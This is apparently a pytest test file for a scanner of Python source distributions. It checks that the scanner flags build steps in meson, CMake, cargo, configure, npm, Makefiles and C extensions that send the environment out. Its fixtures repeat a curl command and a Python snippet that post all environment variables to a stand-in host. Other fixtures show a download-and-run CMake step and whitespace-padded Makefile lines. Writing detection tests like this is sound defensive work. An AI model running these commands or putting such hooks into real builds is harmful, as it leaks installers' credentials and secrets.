"""What a build starts runs at installation, whichever tool does it; honest builds send nothing."""

from textwrap import indent

import pytest
from program_of import program_of

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Taint
from ostiary.program.model import Program

SENDS = "env | curl -d @- https://c.example.invalid/"
TAKES = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://c.example.invalid/', data=str(dict(os.environ)).encode())\n"
)
SETUP = "from setuptools import setup\n{}\nsetup(name='sample', version='1.0')\n"


def sent(program: Program) -> list[tuple[str, Reach]]:
    """The files that send the environment, and when."""
    several = [one for one in program.flows if one.act is Act.SEND and one.has(Taint.ENVIRONMENT)]
    return sorted({(one.at.path, one.reach) for one in several})


@pytest.mark.parametrize(
    ("name", "text", "more"),
    [
        ("meson.build", f"run_command('sh', '-c', '{SENDS}', check: false)\n", {}),
        ("CMakeLists.txt", f'execute_process(COMMAND sh -c "{SENDS}")\n', {}),
        (
            "sub/CMakeLists.txt",
            f'add_custom_target(x ALL COMMAND sh -c "{SENDS}")\n',
            {"CMakeLists.txt": ""},
        ),
        (
            "build.rs",
            f'fn main() {{ Command::new("sh").arg("-c").arg("{SENDS}").spawn(); }}\n',
            {"Cargo.toml": ""},
        ),
        (
            "native/CMakeLists.txt",
            f'execute_process(COMMAND sh -c "{SENDS}")\n',
            {
                "setup.py": SETUP.format(
                    "import subprocess\nsubprocess.check_call(['cmake', 'native'])"
                )
            },
        ),
        (
            "tests/CMakeLists.txt",
            f'execute_process(COMMAND sh -c "{SENDS}")\n',
            {"CMakeLists.txt": "add_subdirectory(tests)\n"},
        ),
        (
            "examples/meson.build",
            f"run_command('sh', '-c', '{SENDS}', check: false)\n",
            {"meson.build": "project('a')\nsubdir('examples')\n"},
        ),
        (
            "rust/build.rs",
            f'fn main() {{ Command::new("sh").arg("-c").arg("{SENDS}").spawn(); }}\n',
            {"setup.py": SETUP.format("from setuptools_rust import RustExtension")},
        ),
        (
            ".cargo/config.toml",
            f'[build]\nrustc-wrapper = ["sh", "-c", "{SENDS}"]\n',
            {"Cargo.toml": ""},
        ),
    ],
)
def test_commands_of_build_tools(name: str, text: str, more: dict[str, str]) -> None:
    assert sent(program_of("sdist", {name: text, **more})) == [
        (f"sample-1.0/{name}", Reach.INSTALL)
    ]


def test_tests_that_no_build_goes_on_with_are_not_built() -> None:
    files = {
        "CMakeLists.txt": "project(a)\n",
        "tests/CMakeLists.txt": f'execute_process(COMMAND sh -c "{SENDS}")\n',
    }
    assert sent(program_of("sdist", files)) == []


@pytest.mark.parametrize(
    ("command", "name", "text"),
    [
        ("['./configure', '--quiet']", "configure", f"#!/bin/sh\n{SENDS}\n"),
        (
            "['ninja', '-C', 'tools']",
            "tools/build.ninja",
            f"rule r\n  command = {SENDS}\nbuild x: r\n",
        ),
        (
            "['npm', 'run', 'build']",
            "package.json",
            f'{{"scripts": {{"prebuild": "{SENDS}", "build": "tsc"}}}}\n',
        ),
        (
            "['yarn', '--cwd', 'ui']",
            "ui/package.json",
            f'{{"scripts": {{"postinstall": "{SENDS}"}}}}\n',
        ),
        (
            "['make', '-C', 'src', 'all']",
            "src/Makefile",
            f"x:\n\ttrue\nall: dep\ndep:\n\t{SENDS}\n",
        ),
        ("['make']", "Makefile", f"X := $(shell {SENDS})\nall:\n\ttrue\n"),
    ],
)
def test_what_a_setup_script_has_started(command: str, name: str, text: str) -> None:
    setup = SETUP.format(f"import subprocess; subprocess.check_call({command})")
    assert sent(program_of("sdist", {"setup.py": setup, name: text})) == [
        (f"sample-1.0/{name}", Reach.INSTALL)
    ]


def test_a_long_script_is_looked_at_where_it_reaches_out() -> None:
    text = "#!/bin/sh\n" + "ac_x=yes\n" * 40_000 + f"{SENDS}\n"
    setup = SETUP.format("import os; os.system('./configure')")
    program = program_of("sdist", {"setup.py": setup, "configure": text})
    assert sent(program) == [("sample-1.0/configure", Reach.INSTALL)]
    assert [(one.path, one.reach) for one in program.unfinished] == [
        ("sample-1.0/configure", Reach.CALL)
    ]  # said, and no more than that


def test_a_script_of_python_that_a_build_starts() -> None:
    files = {
        "meson.build": "gen = find_program('tools/gen.py')\ncustom_target('x', command: [gen, '@OUTPUT@'])\n",
        "tools/gen.py": f"if __name__ == '__main__':\n{indent(TAKES, '    ')}",
    }
    assert sent(program_of("sdist", files)) == [("sample-1.0/tools/gen.py", Reach.INSTALL)]


def test_what_is_fetched_by_a_build_and_started() -> None:
    text = (
        "file(DOWNLOAD https://a.example.invalid/x tool.sh)\nexecute_process(COMMAND sh tool.sh)\n"
    )
    program = program_of("sdist", {"CMakeLists.txt": text})
    found = [one for one in program.flows if one.has(Taint.NETWORK)]
    assert {(one.act, one.reach) for one in found} == {(Act.RUN, Reach.INSTALL)}


def test_tests_that_a_setup_script_runs() -> None:
    setup = SETUP.format("import unittest; unittest.defaultTestLoader.discover('tests').run(None)")
    body = "import unittest\nclass T(unittest.TestCase):\n    def test(self):\n"
    inside = "".join(f"        {one}\n" for one in TAKES.splitlines())
    program = program_of("sdist", {"setup.py": setup, "tests/test_a.py": body + inside})
    assert sent(program) == [("sample-1.0/tests/test_a.py", Reach.INSTALL)]
    plain = program_of("sdist", {"setup.py": SETUP.format(""), "tests/test_a.py": body + inside})
    assert sent(plain) == [("sample-1.0/tests/test_a.py", Reach.TEST)]


def test_scripts_of_a_shell_that_are_installed() -> None:
    setup = SETUP.replace("version='1.0'", "version='1.0', scripts=['bin/sample']").format("")
    files = {"setup.py": setup, "bin/sample": f"#!/bin/sh\n{SENDS}\n"}
    assert sent(program_of("sdist", files)) == [("sample-1.0/bin/sample", Reach.CALL)]


@pytest.mark.parametrize(
    ("text", "reach"),
    [
        ('void x(void) {{ system("{}"); }}\n', Reach.CALL),
        ('__attribute__((constructor)) static void x(void) {{ system("{}"); }}\n', Reach.IMPORT),
    ],
)
def test_commands_in_the_source_of_an_extension(text: str, reach: Reach) -> None:
    files = {"setup.py": SETUP.format(""), "src/x.c": text.format(SENDS)}
    assert sent(program_of("sdist", files)) == [("sample-1.0/src/x.c", reach)]


def test_what_honest_builds_do() -> None:
    files = {
        "meson.build": "project('x', version: run_command('git', 'describe', check: true).stdout())\n"
        "py = import('python').find_installation()\nrun_command(py, 'tools/version.py')\n"
        "custom_target('y', command: [py, '-c', 'print(1)'])\n",
        "tools/version.py": "import subprocess\nprint(subprocess.check_output(['git', 'describe']))\n",
        "CMakeLists.txt": "file(DOWNLOAD https://a.example.invalid/x.tgz x.tgz)\n"
        "execute_process(COMMAND ${CMAKE_COMMAND} -E tar xf x.tgz)\nexecute_process(COMMAND uname -m)\n",
        "build.rs": 'fn main() { Command::new("rustc").arg("--version").output(); }\n',
        "Cargo.toml": "",
        "src/x.c": 'int run(char *x) { return system(x) + system("true"); }\n',
    }
    program = program_of("sdist", files)
    assert not [one for one in program.flows if one.act is Act.SEND or one.has(Taint.NETWORK)]
    assert not program.unfinished
    assert not sent(program_of("wheel", {"meson.build": f"run_command('sh', '-c', '{SENDS}')\n"}))


@pytest.mark.parametrize(
    "text",
    ["all:\n\ttrue{pad}; id\n", "A = true{pad}; id\nall:\n\t$(A)\n"],
    ids=["line", "variable"],
)
def test_a_padded_line_of_a_makefile_is_said(text: str) -> None:
    setup = SETUP.format("import subprocess; subprocess.check_call(['make'])")
    program = program_of("sdist", {"setup.py": setup, "Makefile": text.format(pad=" " * 9_000)})
    assert "sample-1.0/Makefile" in {one.path for one in program.unfinished}
